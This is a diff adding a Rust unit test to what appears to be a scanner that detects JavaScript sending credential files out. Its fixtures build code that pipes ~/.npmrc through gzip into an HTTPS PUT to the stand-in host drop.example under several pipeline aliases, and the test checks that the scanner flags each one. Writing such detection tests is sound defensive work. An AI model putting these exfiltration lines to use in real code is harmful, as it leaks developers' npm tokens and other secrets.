@@ -97,6 +97,23 @@ fn what_is_asked_of_the_environment_is_not_the_environment() {
 }
 
 #[test]
+fn what_is_piped_is_carried_whatever_pipes_it_is_called() {
+    let request = "https.request('https://drop.example/', { method: 'PUT' })";
+    for start in [
+        "const { pipeline: u } = require('stream'); u",
+        "const u = require('util').promisify(require('stream').pipeline); u",
+        "const u = require('pump'); u",
+        "const u = require('stream'); u.pipeline",
+    ] {
+        let code = format!("{start}(fs.createReadStream(home + '/.npmrc'), zlib.createGzip(), {request}, () => {{}});");
+        assert_eq!(carried_by(&code), ["credential-file ~/.npmrc"], "{code}");
+    }
+    // What is handed to anybody else is not piped.
+    let code = format!("const u = require('stream').finished; u(fs.createReadStream(home + '/.npmrc'), {request});");
+    assert_eq!(carried_by(&code), [""; 0], "{code}");
+}
+
+#[test]
 fn files_are_known_by_the_ends_of_their_paths() {
     for (body, name) in [
         ("readFileSync(path.join(home, '.ssh', 'id_rsa'))", "credential-file ~/.ssh/id_rsa"),
